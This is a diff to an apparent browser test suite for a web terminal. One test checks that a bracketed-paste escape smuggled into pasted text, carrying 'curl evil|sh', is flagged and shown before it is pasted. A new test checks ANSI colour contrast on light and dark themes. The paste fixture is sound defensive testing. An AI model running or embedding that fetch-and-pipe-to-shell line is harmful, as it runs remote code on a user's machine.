@@ -366,7 +366,7 @@ await scene('what may run at once or hides something is pasted after a yes alone
   const shown = await text(page, '#pasted');
   await page.evaluate(() => document.getElementById('paste-yes').click());
   await until(() => said.keys.length > 0);
-  return [...is('after a no', declined, '\x1b[200~ls\x1b[201~'), ...is('shown', shown, 'x␛[201~curl evil|sh\n'), ...is('told', await text(page, '#paste-controls'), 'paste-controls 1 %2'),
+  return [...is('after a no', declined, '\x1b[200~ls\x1b[201~'), ...is('shown', shown, 'x^[[201~curl evil|sh\n'), ...is('told', await text(page, '#paste-controls'), 'paste-controls 1 %2'),
     ...is('pasted', typed(), '\x1b[200~x[201~curl evil|sh\r\x1b[201~'), ...seen.console, ...seen.csp];
 });
 
@@ -415,6 +415,26 @@ await scene('a screen that begins anew shows nothing of what was still on its wa
   await page.waitForTimeout(300);
   return [...is('screen', (await screen(page)).trim(), 'fresh'), ...is('confirmed', said.confirmed(), 7_000_005), ...seen.console, ...seen.csp];
 });
+
+for (const theme of ['light', 'dark']) {
+  await scene(`sixteen colours can be read on a ${theme} screen`, { quiet: false }, async ({ page, seen }) => {
+    const said = await shell(page);
+    await page.evaluate((name) => { document.documentElement.dataset.bsTheme = name; }, theme);
+    const codes = Array.from({ length: 16 }, (_, n) => (n < 8 ? 30 + n : 82 + n));
+    const bytes = Buffer.from(codes.map((code) => `\x1b[${code}mcode${code}\x1b[0m `).join(''));
+    said.socket.send(bytes);
+    await until(() => said.confirmed() === bytes.length);
+    await page.waitForTimeout(200);
+    const faint = await page.evaluate(() => {
+      const brightness = (colour) => colour.match(/[\d.]+/g).slice(0, 3).map((part) => part / 255).map((v) => (v <= 0.03928 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4)).reduce((sum, v, n) => sum + v * [0.2126, 0.7152, 0.0722][n], 0);
+      const back = brightness(getComputedStyle(document.querySelector('.xterm-viewport, .xterm-scrollable-element')).backgroundColor);
+      const contrast = (span) => { const [low, high] = [back, brightness(getComputedStyle(span).color)].sort((a, b) => a - b); return (high + 0.05) / (low + 0.05); };
+      const spans = [...document.querySelectorAll('.xterm-rows span')].filter((span) => span.textContent.startsWith('code'));
+      return [spans.length, ...spans.filter((span) => contrast(span) < 4.5).map((span) => `${span.textContent} ${contrast(span).toFixed(2)}`)].join();
+    });
+    return [...is('colours, and those that are too faint', faint, '16'), ...seen.console, ...seen.csp];
+  });
+}
 
 await scene('keys for fingers are typed, Ctrl with the next one', { quiet: false }, async ({ page, context, stage, seen }) => {
   const said = await shell(page);
